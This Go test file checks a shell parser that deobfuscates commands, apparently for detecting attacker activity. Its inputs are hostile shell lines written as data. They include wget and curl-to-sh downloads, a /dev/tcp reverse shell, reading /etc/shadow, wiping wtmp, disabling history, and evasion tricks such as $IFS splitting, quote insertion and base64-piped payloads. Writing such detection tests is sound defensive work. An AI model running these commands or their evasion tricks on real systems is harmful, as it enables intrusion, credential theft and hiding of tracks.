package shell

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func texts(list [][]byte) []string {
	var out []string
	for _, t := range list {
		out = append(out, string(t))
	}
	return out
}

func TestSegments(t *testing.T) {
	var p Parser
	for _, tt := range []struct {
		in   string
		want []string
	}{
		{`sudo -u x /bin/busybox wget -q "http://h/a" > /tmp/x`, []string{
			"sudo -u x busybox wget -q http://h/a > /tmp/x", "busybox wget -q http://h/a > /tmp/x", "wget -q http://h/a > /tmp/x",
		}},
		{`w\get 'http://h/a'`, []string{"wget http://h/a"}},
		{`w''g""et$IFS$9http://h/a`, []string{"wget http://h/a"}},
		{`{wget,-q,http://h/a}`, []string{"wget -q http://h/a"}},
		{`cat /etc/{passwd,shadow}`, []string{"cat /etc/passwd /etc/shadow"}},
		{`cat${IFS}/etc/passwd`, []string{"cat /etc/passwd"}},
		{"cd /tmp||cd /var;wget\\\n http://h/a&&sh a&", []string{"cd /tmp", "cd /var", "wget http://h/a", "sh a"}},
		{`$'\x77get' http://h/a # comment; rm x`, []string{"wget http://h/a"}},
		{`w$@get http://h/a; c$*url x`, []string{"wget http://h/a", "curl x"}},
		{`if [ -f x ]; then rm x; else ls; fi`, []string{"[ -f x ]", "rm x", "ls"}},
		{`for i in a b; do wget http://h/$i; done`, []string{"for i in a b", "wget http://h/$i"}},
		{`while read l; do echo $l; done < f`, []string{"read l", "echo $l", "< f"}},
		{`case $x in a|b) ls;; *) id;; esac; w`, []string{"case $x in", "ls", "id", "w"}},
		{`f() { id; }; f`, []string{"id", "f"}},
		{`> /var/log/wtmp`, []string{"> /var/log/wtmp"}},
		{`ls > /dev/null 2>&1`, []string{"ls > /dev/null"}},
		{`ls >/dev/null 2>/dev/null`, []string{"ls > /dev/null 2> /dev/null"}},
		{`>/tmp/x wget <&196 -q h`, []string{"wget -q h > /tmp/x <&196"}},
		{`bash -i >& /dev/tcp/h/1 0>&1`, []string{"bash -i > /dev/tcp/h/1"}},
		{`A=b C=d wget x`, []string{"A=b C=d wget x", "wget x"}},
		{`HISTFILE=/dev/null`, []string{"HISTFILE=/dev/null"}},
		{`a=wget; $a http://h`, []string{"a=wget", "wget http://h"}},
		{`a=wg b=et; "$a${b}" http://h`, []string{"a=wg b=et", "wget http://h"}},
		{`sh -c 'wget x; id'`, []string{"sh -c wget x; id", "wget x", "id"}},
		{`find / -name x -exec /bin/rm {} \; -print`, []string{"find / -name x -exec /bin/rm {} ; -print", "rm {}"}},
		{`ls | xargs -n 1 rm -f`, []string{"ls", "xargs -n 1 rm -f", "rm -f"}},
		{`$(echo wget) http://h`, []string{"echo wget", "wget http://h"}},
		{"kill `pidof x`", []string{"pidof x", "kill `pidof x`"}},
		{`echo d2dldCBodHRwOi8vaC9h | base64 -d | sh`, []string{"echo d2dldCBodHRwOi8vaC9h", "base64 -d", "sh", "wget http://h/a"}},
		{"sh <<EOF\nid\nEOF\nls", []string{"sh << EOF", "ls", "id"}},
		{`foo"; wget x`, []string{"foo", "wget x"}},
		{`command -v wget`, []string{"command -v wget"}},
		{`timeout -s 9 5 nohup env -i A=b wget x`, []string{
			"timeout -s 9 5 nohup env -i A=b wget x", "nohup env -i A=b wget x", "env -i A=b wget x", "wget x",
		}},
	} {
		if diff := cmp.Diff(tt.want, texts(p.Parse([]byte(tt.in)).Segments)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.in, diff)
		}
	}
}

func TestPipelines(t *testing.T) {
	var p Parser
	for _, tt := range []struct {
		in   string
		want []string
	}{
		{`sudo curl -s h | sudo /bin/bash`, []string{"curl -s h | bash"}},
		{`(curl h || wget h) | sh`, []string{"curl h | sh", "wget h | sh"}},
		{`bash <(curl h)`, []string{"curl h | bash"}},
		{`bash -c "$(curl h)"`, []string{"curl h | bash"}},
		{`a | b && c | d |& e`, []string{"a | b", "c | d | e"}},
		{`{ curl h; } 2>/dev/null | sh`, []string{"curl h | sh"}},
	} {
		if diff := cmp.Diff(tt.want, texts(p.Parse([]byte(tt.in)).Pipelines)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.in, diff)
		}
	}
}
